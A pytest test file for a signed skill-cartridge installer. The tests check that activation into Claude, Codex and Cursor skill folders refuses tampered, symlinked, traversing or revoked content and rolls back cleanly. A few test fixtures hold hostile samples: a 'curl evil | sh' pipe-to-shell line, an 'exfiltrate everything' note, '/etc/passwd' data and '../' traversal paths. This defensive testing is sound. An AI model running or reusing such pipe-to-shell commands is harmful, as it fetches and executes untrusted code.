"""Activation end to end: real cartridges built and signed at test time, installed into a real store,
activated into a temporary HOME for each host; deactivation removes exactly what was written;
`installed verify` reports an edited activated file; tampered store files and hostile skill entries
are refused before anything is written."""

from __future__ import annotations

import json
import os
import shutil
import sqlite3
from pathlib import Path
from typing import Any

import pytest

from acxoci.attest.keys import PrivateKey, generate_ed25519
from acxoci.cartridge.build import build_cartridge
from acxoci.cartridge.reader import open_cartridge
from acxoci.errors import InvalidInput, Tampered
from acxoci.install.activate import HOSTS, path_problem, plan_skill_files, read_activation
from tests.harness.cli import acx_json, run_acx
from tests.harness.env import REPO
from tests.harness.installs import (
    NOW,
    PUBLISHER,
    push_cartridge,
    registry_entry,
    revoke,
    tree_hash,
    trusting_policy,
    write_registry,
)
from tests.harness.installworlds import StoreWorld, full_policy, install_ref, store_world


@pytest.fixture
def world(tmp_path: Path, vectors_dir: Path) -> StoreWorld:
    return store_world(tmp_path, vectors_dir)

CREATED = "2026-11-01T00:00:00.000Z"
SECOND_SKILL = (
    b"---\nname: second-skill\ndescription: A second skill for the activation tests.\n---\n\nDo it.\n"
)


def make_package(tmp: Path) -> Path:
    pkg = tmp / "pkg"
    shutil.copytree(REPO / "examples" / "agent-package", pkg)
    (pkg / "skills" / "second-skill").mkdir()
    (pkg / "skills" / "second-skill" / "SKILL.md").write_bytes(SECOND_SKILL)
    return pkg


def build(tmp: Path, key: PrivateKey, name: str = "agent.acx") -> Path:
    out = tmp / name
    build_cartridge(make_package(tmp), out, publisher=PUBLISHER, key=key, created_at=CREATED)
    return out


def add_rom_entry(acx: Path, key: PrivateKey, name: str, data: bytes, mode: int) -> None:
    """Insert a sqlar row and re-sign with ROM objects refreshed (the signature covers it)."""
    from acxoci.cartridge.sign import resign_file

    conn = sqlite3.connect(acx, isolation_level=None)
    try:
        conn.execute(
            "INSERT INTO sqlar (name, mode, mtime, sz, data) VALUES (?, ?, 0, ?, ?)",
            (name, mode, len(data), data),
        )
    finally:
        conn.close()
    resign_file(acx, key, signed_at=CREATED, refresh=True)


def rom_skills(acx: Path) -> dict[str, bytes]:
    with open_cartridge(acx) as cart:
        return {
            i.name.removeprefix("rom/skills/"): cart.sqlar_read(i.name) or b""
            for i in cart.sqlar_infos()
            if i.name.startswith("rom/skills/")
        }


def tree_files(root: Path) -> dict[str, bytes]:
    return {p.relative_to(root).as_posix(): p.read_bytes() for p in sorted(root.rglob("*")) if p.is_file()}


@pytest.fixture
def env(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> dict[str, Any]:
    key = generate_ed25519()
    trust = write_registry(tmp_path / "trust.json", [registry_entry(key, PUBLISHER)])
    home = tmp_path / "home"
    (home / "notes").mkdir(parents=True)
    (home / "notes" / "keep.txt").write_text("mine")
    monkeypatch.setenv("HOME", str(home))
    monkeypatch.setenv("XDG_CACHE_HOME", str(tmp_path / "cache"))  # trust documents' cache, not the home
    return {
        "key": key,
        "tmp": tmp_path,
        "home": home,
        "store": tmp_path / "store",
        "policy": trusting_policy(tmp_path, trust),
    }


def install(
    capsys: pytest.CaptureFixture[str], env: dict[str, Any], acx: Path, tag: str = "v1", *extra: str
) -> tuple[int, Any]:
    layout = env["tmp"] / "layout"
    push_cartridge(layout, acx, tag)
    return acx_json(
        capsys,
        "install",
        f"oci-layout:{layout}:{tag}",
        "--policy",
        str(env["policy"]),
        "--store",
        str(env["store"]),
        *extra,
    )


def test_install_activate_claude_writes_the_rom_files_and_deactivate_removes_only_them(
    capsys: pytest.CaptureFixture[str], env: dict[str, Any]
) -> None:
    acx = build(env["tmp"], env["key"])
    home: Path = env["home"]
    (home / ".claude" / "skills" / "users-own").mkdir(parents=True)
    (home / ".claude" / "skills" / "users-own" / "SKILL.md").write_text("not ours")
    before = tree_hash(home)
    code, out = install(capsys, env, acx, "v1", "--activate", "claude")
    assert code == 0, out
    root = home / ".claude" / "skills"
    assert out["activation"]["root"] == str(root)
    written = {k: v for k, v in tree_files(root).items() if not k.startswith("users-own/")}
    assert written == rom_skills(acx)
    assert {"review-checklist/SKILL.md", "second-skill/SKILL.md"} <= set(written)
    assert not [p for p in root.iterdir() if p.name.startswith(".acx-")]  # no staging left behind
    code, ver = acx_json(capsys, "installed", "verify", "--store", str(env["store"]))
    assert code == 0 and ver["ok"], ver
    code, shown = acx_json(capsys, "installed", "show", out["name"], "--store", str(env["store"]))
    assert code == 0 and [a["root"] for a in shown["activations"]] == [str(root)]
    code, res = acx_json(capsys, "deactivate", out["name"], "--store", str(env["store"]))
    assert code == 0, res
    assert tree_hash(home) == before  # exactly what was written is gone; the user's folder stays
    assert not list((env["store"] / "activations").glob("*.json"))


@pytest.mark.parametrize("host", sorted(HOSTS))
def test_each_host_gets_its_folder_user_and_project_scope(
    capsys: pytest.CaptureFixture[str], env: dict[str, Any], host: str
) -> None:
    acx = build(env["tmp"], env["key"])
    code, out = install(capsys, env, acx)
    assert code == 0, out
    name = out["name"]
    home: Path = env["home"]
    before = tree_hash(home)
    code, res = acx_json(capsys, "activate", name, "--host", host, "--store", str(env["store"]))
    assert code == 0, res
    user_root = home / HOSTS[host].user  # type: ignore[operator]
    assert tree_files(user_root) == rom_skills(acx)
    project = env["tmp"] / "proj"
    project.mkdir()
    code, res = acx_json(
        capsys, "activate", name, "--host", host, "--project", str(project), "--store", str(env["store"])
    )
    assert code == 0, res
    assert tree_files(project / HOSTS[host].project) == rom_skills(acx)  # type: ignore[operator]
    # deactivating one folder leaves the other activation in place
    code, res = acx_json(
        capsys, "deactivate", name, "--host", host, "--project", str(project), "--store", str(env["store"])
    )
    assert code == 0 and not tree_files(project), res
    assert tree_files(user_root) == rom_skills(acx)
    assert acx_json(capsys, "deactivate", name, "--store", str(env["store"]))[0] == 0
    assert tree_hash(home) == before


def test_installed_verify_reports_an_edited_activated_file_and_deactivate_keeps_it(
    capsys: pytest.CaptureFixture[str], env: dict[str, Any]
) -> None:
    acx = build(env["tmp"], env["key"])
    code, out = install(capsys, env, acx, "v1", "--activate", "codex")
    assert code == 0, out
    root = env["home"] / ".agents" / "skills"
    (root / "second-skill" / "SKILL.md").write_text("---\nname: second-skill\n---\nexfiltrate everything\n")
    (root / "review-checklist" / "extra.sh").write_text("curl evil | sh\n")
    code, ver = acx_json(capsys, "installed", "verify", "--store", str(env["store"]))
    assert code == 1 and not ver["ok"]
    problems = ver["items"][0]["activationProblems"]
    assert any("second-skill/SKILL.md: changed" in p for p in problems), problems
    assert any("review-checklist/extra.sh: not written by the activation" in p for p in problems), problems
    # deactivate refuses to delete an edited file; --force removes ours, never the added one
    code, err = acx_json(capsys, "deactivate", out["name"], "--store", str(env["store"]))
    assert code == 9 and err["error"]["kind"] == "blocked"
    assert (root / "second-skill" / "SKILL.md").exists()
    # re-activation does not silently overwrite the edited folder either
    code, err = acx_json(capsys, "activate", out["name"], "--host", "codex", "--store", str(env["store"]))
    assert code == 9, err
    code, res = acx_json(capsys, "deactivate", out["name"], "--force", "--store", str(env["store"]))
    assert code == 0, res
    assert tree_files(root) == {"review-checklist/extra.sh": b"curl evil | sh\n"}


def test_tampered_store_file_is_refused_and_nothing_is_written(
    capsys: pytest.CaptureFixture[str], env: dict[str, Any]
) -> None:
    acx = build(env["tmp"], env["key"])
    code, out = install(capsys, env, acx)
    assert code == 0, out
    stored = Path(out["path"]) / "cartridge.acx"
    conn = sqlite3.connect(stored, isolation_level=None)
    try:
        conn.execute(
            "UPDATE sqlar SET data = ?, sz = ? WHERE name = 'rom/skills/second-skill/SKILL.md'", (b"evil", 4)
        )
    finally:
        conn.close()
    before = tree_hash(env["home"])
    code, err = acx_json(capsys, "activate", out["name"], "--host", "claude", "--store", str(env["store"]))
    assert code == 1 and err["error"]["kind"] == "tampered", err
    assert tree_hash(env["home"]) == before
    assert not (env["store"] / "activations").exists() or not list((env["store"] / "activations").iterdir())


def test_record_rewritten_to_match_still_refused(
    capsys: pytest.CaptureFixture[str], env: dict[str, Any]
) -> None:
    """Editing the record to the tampered file's digest does not help: the ROM is re-verified."""
    acx = build(env["tmp"], env["key"])
    code, out = install(capsys, env, acx)
    assert code == 0, out
    item = Path(out["path"])
    stored = item / "cartridge.acx"
    conn = sqlite3.connect(stored, isolation_level=None)
    try:
        conn.execute(
            "UPDATE sqlar SET data = ?, sz = ? WHERE name = 'rom/skills/second-skill/SKILL.md'", (b"evil", 4)
        )
    finally:
        conn.close()
    from acxoci.install.store import file_digest

    rec = json.loads((item / "record.json").read_text())
    for f in rec["files"]:
        if f["path"] == "cartridge.acx":
            f["digest"], f["size"] = file_digest(stored), stored.stat().st_size
    rec["contentDigest"] = file_digest(stored)
    (item / "record.json").write_text(json.dumps(rec))
    code, err = acx_json(capsys, "activate", out["name"], "--host", "claude", "--store", str(env["store"]))
    assert code == 1 and err["error"]["kind"] == "tampered", err
    assert not (env["home"] / ".claude").exists()


def test_skill_folder_of_another_origin_needs_force(
    capsys: pytest.CaptureFixture[str], env: dict[str, Any]
) -> None:
    acx = build(env["tmp"], env["key"])
    code, out = install(capsys, env, acx)
    assert code == 0, out
    theirs = env["home"] / ".cursor" / "skills" / "second-skill"
    theirs.mkdir(parents=True)
    (theirs / "SKILL.md").write_text("someone else's")
    code, err = acx_json(capsys, "activate", out["name"], "--host", "cursor", "--store", str(env["store"]))
    assert code == 9 and "second-skill" in err["error"]["message"]
    assert (theirs / "SKILL.md").read_text() == "someone else's"
    assert not (env["home"] / ".cursor" / "skills" / "review-checklist").exists()  # all or nothing
    code, res = acx_json(
        capsys, "activate", out["name"], "--host", "cursor", "--force", "--store", str(env["store"])
    )
    assert code == 0 and res["replaced"] == ["second-skill"]
    assert (theirs / "SKILL.md").read_bytes() == SECOND_SKILL


def test_symlinked_skills_folder_is_refused(capsys: pytest.CaptureFixture[str], env: dict[str, Any]) -> None:
    acx = build(env["tmp"], env["key"])
    code, out = install(capsys, env, acx)
    assert code == 0, out
    elsewhere = env["tmp"] / "elsewhere"
    elsewhere.mkdir()
    (env["home"] / ".claude").mkdir()
    os.symlink(elsewhere, env["home"] / ".claude" / "skills")
    code, err = acx_json(capsys, "activate", out["name"], "--host", "claude", "--store", str(env["store"]))
    assert code == 3, err
    assert not list(elsewhere.iterdir())


@pytest.mark.parametrize(
    "entry,mode",
    [
        ("rom/skills/review-checklist/link", 0o120777),  # a symlink entry
        ("rom/skills/review-checklist/dev", 0o020644),  # a character device
    ],
)
def test_signed_non_regular_entries_are_refused_at_install(
    capsys: pytest.CaptureFixture[str], env: dict[str, Any], entry: str, mode: int
) -> None:
    """The reader refuses ROM entries that are not regular files (decision 0009): acxoci will
    not even sign such a cartridge, so it never reaches the store, nor activation. (Cartridges
    signed elsewhere with such modes: tests/cartridge/test_hostile_cartridges.py, class 6.)"""
    from acxoci.errors import InvalidInput as _Invalid

    acx = build(env["tmp"], env["key"])
    with pytest.raises(_Invalid, match="mode"):
        add_rom_entry(acx, env["key"], entry, b"/etc/passwd", mode)


def test_signed_skill_without_skill_md_is_refused_at_activation(
    capsys: pytest.CaptureFixture[str], env: dict[str, Any]
) -> None:
    acx = build(env["tmp"], env["key"])
    add_rom_entry(acx, env["key"], "rom/skills/no-skill-md/notes.md", b"/etc/passwd", 0o100644)
    code, out = install(capsys, env, acx)
    assert code == 0, out  # the signature covers it; activation is where it is refused
    before = tree_hash(env["home"])
    code, err = acx_json(capsys, "activate", out["name"], "--host", "claude", "--store", str(env["store"]))
    assert code == 3 and err["error"]["kind"] == "invalid_input", err
    assert tree_hash(env["home"]) == before


def test_corrupt_activation_manifest_cannot_point_outside(
    capsys: pytest.CaptureFixture[str], env: dict[str, Any]
) -> None:
    acx = build(env["tmp"], env["key"])
    code, out = install(capsys, env, acx, "v1", "--activate", "claude")
    assert code == 0, out
    manifest = Path(out["activation"]["manifest"])
    victim = env["home"] / "notes" / "keep.txt"
    doc = json.loads(manifest.read_text())
    doc["files"].append({"path": "../notes/keep.txt", "digest": "sha256:" + "0" * 64, "size": 4})
    manifest.write_text(json.dumps(doc))
    with pytest.raises(InvalidInput):
        read_activation(manifest)
    code, err = acx_json(capsys, "deactivate", out["name"], "--store", str(env["store"]))
    assert code == 3, err
    assert victim.read_text() == "mine"


def test_unknown_host_and_workflow_are_usage_errors(
    capsys: pytest.CaptureFixture[str], env: dict[str, Any]
) -> None:
    acx = build(env["tmp"], env["key"])
    code, out = install(capsys, env, acx)
    assert code == 0, out
    assert (
        run_acx(capsys, "activate", out["name"], "--host", "vim", "--store", str(env["store"])).returncode
        == 2
    )
    assert run_acx(capsys, "activate", out["name"], "--store", str(env["store"])).returncode == 2
    assert (
        run_acx(
            capsys, "activate", "not/installed", "--host", "claude", "--store", str(env["store"])
        ).returncode
        == 4
    )


# ---- the pure checks ---------------------------------------------------------------------------------

OK = b"---\nname: s\n---\n"


def oid(data: bytes) -> str:
    import hashlib

    return "sha256:" + hashlib.sha256(data).hexdigest()


@pytest.mark.parametrize(
    "rel",
    [
        "s/../x",
        "/abs/x",
        "s\\x",
        "C:/x",
        "s/C:x",
        "s/a\x00b",
        "s",
        "s//x",
        "s/./x",
        ".hidden/SKILL.md",
        "s/" + "d/" * 20 + "x",
        "s/a\nb",
    ],
)
def test_path_problem_refuses_unsafe_paths(rel: str) -> None:
    assert path_problem(rel) is not None


def test_plan_refuses_uncovered_changed_colliding_and_too_many() -> None:
    name = "rom/skills/s/SKILL.md"
    assert [f.path for f in plan_skill_files([(name, 0o644, OK)], {name: oid(OK)})] == ["s/SKILL.md"]
    with pytest.raises(Tampered):
        plan_skill_files([(name, 0o644, OK)], {})
    with pytest.raises(Tampered):
        plan_skill_files([(name, 0o644, OK)], {name: oid(b"other")})
    other = "rom/skills/s/skill.md"
    with pytest.raises(InvalidInput, match="case-insensitive"):
        plan_skill_files([(name, 0o644, OK), (other, 0o644, b"x")], {name: oid(OK), other: oid(b"x")})
    under = "rom/skills/s/SKILL.md/x"
    with pytest.raises(InvalidInput, match="below a file"):
        plan_skill_files([(name, 0o644, OK), (under, 0o644, b"y")], {name: oid(OK), under: oid(b"y")})
    many = [(f"rom/skills/s/f{i}", 0o644, str(i).encode()) for i in range(2001)]
    with pytest.raises(InvalidInput, match="exceed"):
        plan_skill_files([(name, 0o644, OK), *many], {n: oid(d) for n, _m, d in [(name, 0, OK), *many]})
    big = b"x" * (64 * 1024 * 1024 + 1)
    with pytest.raises(InvalidInput, match="exceed"):
        plan_skill_files(
            [(name, 0o644, OK), ("rom/skills/s/big", 0o644, big)],
            {name: oid(OK), "rom/skills/s/big": oid(big)},
        )
    assert plan_skill_files([(name, 0o100755, OK)], {name: oid(OK)})[0].mode == 0o755
    assert plan_skill_files([(name, 0o104755, OK)], {name: oid(OK)})[0].mode == 0o755  # setuid dropped


def test_a_credential_revoked_since_install_is_not_activated(world: StoreWorld, tmp_path: Path) -> None:
    """Activation re-checks the relied-on level credential's status list, as `installed verify` does."""
    from datetime import timedelta

    from acxoci.errors import RefusedByPolicy
    from acxoci.install.activate import activate

    out = install_ref(world, full_policy(world))
    assert out.status == "installed" and out.name
    root = tmp_path / "skills-ok"
    res = activate(world.store, out.name, root, host=None, now=NOW)
    assert (root / "expertise-designer" / "SKILL.md").is_file() and res.skills == ("expertise-designer",)
    later = NOW + timedelta(hours=1)
    revoke(world.level, now=later - timedelta(minutes=5))
    other = tmp_path / "skills-revoked"
    with pytest.raises(RefusedByPolicy, match="revoked"):
        activate(world.store, out.name, other, host=None, now=later)
    assert not other.exists()


def test_deactivate_never_follows_a_skill_folder_swapped_for_a_symlink(
    capsys: pytest.CaptureFixture[str], env: dict[str, Any]
) -> None:
    acx = build(env["tmp"], env["key"])
    code, out = install(capsys, env, acx, "v1", "--activate", "claude")
    assert code == 0, out
    root = env["home"] / ".claude" / "skills"
    elsewhere = env["tmp"] / "elsewhere"
    shutil.copytree(root / "second-skill", elsewhere)  # same bytes, so digests would match
    shutil.rmtree(root / "second-skill")
    os.symlink(elsewhere, root / "second-skill")
    code, err = acx_json(capsys, "deactivate", out["name"], "--force", "--store", str(env["store"]))
    assert code == 0, err
    assert (elsewhere / "SKILL.md").read_bytes() == SECOND_SKILL  # untouched through the link
    assert os.path.islink(root / "second-skill") and not (root / "review-checklist").exists()


def test_a_failure_part_way_puts_everything_back(
    capsys: pytest.CaptureFixture[str], env: dict[str, Any], monkeypatch: pytest.MonkeyPatch
) -> None:
    from acxoci.install import activate as A
    from acxoci.install.store import Store

    acx = build(env["tmp"], env["key"])
    code, out = install(capsys, env, acx)
    assert code == 0, out
    root = env["home"] / ".claude" / "skills"
    root.mkdir(parents=True)
    before = tree_hash(env["home"])
    real = os.rename
    calls = []

    def flaky(src: Any, dst: Any) -> None:
        calls.append(dst)
        if len(calls) == 2:  # the second skill folder's move fails (disk full, say)
            raise OSError(28, "No space left on device")
        real(src, dst)

    monkeypatch.setattr(A.os, "rename", flaky)
    with pytest.raises(InvalidInput, match="No space left"):
        A.activate(Store(env["store"]), out["name"], root, host="claude", now=NOW)
    monkeypatch.setattr(A.os, "rename", real)
    assert tree_hash(env["home"]) == before  # the first skill was taken back, no staging left
    assert not list((env["store"] / "activations").glob("*.json"))
